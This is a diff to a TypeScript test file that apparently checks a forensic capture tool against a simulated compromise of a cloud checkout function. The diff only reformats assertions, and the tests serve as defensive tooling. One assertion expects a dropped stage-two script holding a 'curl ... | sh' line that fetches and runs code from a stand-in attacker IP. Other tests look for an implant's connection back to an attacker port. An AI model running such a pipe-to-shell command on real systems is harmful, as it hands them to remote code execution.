@@ -57,7 +57,10 @@ describe('the capture of the attacked example', () => {
   test('holds the file that was dropped, and the script', (t) => {
     if (peers.length > 0) return void missing(t, peers.join(', '));
     assert.equal(sha256(root(join(result.writable, '.cache-1'))), sha256('/bin/true'));
-    assert.match(readFileSync(root(join(result.writable, 'stage2.sh')), 'utf8'), /curl http:\/\/203\.0\.113\.7\/s \| sh/u);
+    assert.match(
+      readFileSync(root(join(result.writable, 'stage2.sh')), 'utf8'),
+      /curl http:\/\/203\.0\.113\.7\/s \| sh/u,
+    );
     assert.equal(lstatSync(root(join(result.writable, 'stage2.sh'))).mode & 0o111, 0o111);
   });
 
@@ -82,8 +85,14 @@ describe('the capture of the attacked example', () => {
     const { pid } = implant();
     const { inet } = json('sockets.json') as { inet: readonly SocketRow[] };
     const home = inet.filter((row) => row.remote.port === result.attackerPort);
-    assert.deepEqual(home.map((row) => [row.protocol, row.state, row.remote.address]), [['tcp', 'ESTABLISHED', '127.0.0.1']]);
-    assert.deepEqual(home[0]?.owners.map((owner) => owner.pid), [pid]);
+    assert.deepEqual(
+      home.map((row) => [row.protocol, row.state, row.remote.address]),
+      [['tcp', 'ESTABLISHED', '127.0.0.1']],
+    );
+    assert.deepEqual(
+      home[0]?.owners.map((owner) => owner.pid),
+      [pid],
+    );
   });
 
   test('redacts the environment and keeps the access key id', (t) => {
@@ -106,10 +115,36 @@ describe('the capture of the attacked example', () => {
     const collected = await collectCase({ evidence: result.evidence, home: HOME }, amber);
     if (typeof collected === 'string') return void missing(t, collected);
     assert.equal(collected, 1, 'one layer of another account is denied');
-    const manifests = globSync(`${result.evidence}/**/manifest.json`).sort().map((path) => JSON.parse(readFileSync(path, 'utf8')) as { state: string; cause: { trigger: string }; identity: { functionName: string } });
-    assert.deepEqual(manifests.map(({ state, cause, identity }) => [state, cause.trigger, identity.functionName]), [['whole', 'flag', 'checkout'], ['whole', 'collect', 'checkout']]);
+    const manifests = globSync(`${result.evidence}/**/manifest.json`)
+      .sort()
+      .map(
+        (path) =>
+          JSON.parse(readFileSync(path, 'utf8')) as {
+            state: string;
+            cause: { trigger: string };
+            identity: { functionName: string };
+          },
+      );
+    assert.deepEqual(
+      manifests.map(({ state, cause, identity }) => [state, cause.trigger, identity.functionName]),
+      [
+        ['whole', 'flag', 'checkout'],
+        ['whole', 'collect', 'checkout'],
+      ],
+    );
     assert.equal(await amber('verify', result.evidence, '--all'), 0);
-    const listed = execFileSync('tar', ['--zstd', '-tf', globSync(`${result.evidence}/**/capture.tar.zst`).sort().at(-1) ?? ''], { encoding: 'utf8' });
-    for (const wanted of [/function\/5\/code\.zip/u, /layers\/123456789012-vendor-sdk-1\/layer\.zip/u, /roles\/checkout-role\/role\.json/u, /logs\/shop\/checkout-logs\/2025/u, /cloudtrail\/eu-central-1\/AccessKeyId=ASIAIOSFODNN7EXAMPLE/u]) assert.match(listed, wanted);
+    const listed = execFileSync(
+      'tar',
+      ['--zstd', '-tf', globSync(`${result.evidence}/**/capture.tar.zst`).sort().at(-1) ?? ''],
+      { encoding: 'utf8' },
+    );
+    for (const wanted of [
+      /function\/5\/code\.zip/u,
+      /layers\/123456789012-vendor-sdk-1\/layer\.zip/u,
+      /roles\/checkout-role\/role\.json/u,
+      /logs\/shop\/checkout-logs\/2025/u,
+      /cloudtrail\/eu-central-1\/AccessKeyId=ASIAIOSFODNN7EXAMPLE/u,
+    ])
+      assert.match(listed, wanted);
   });
 });
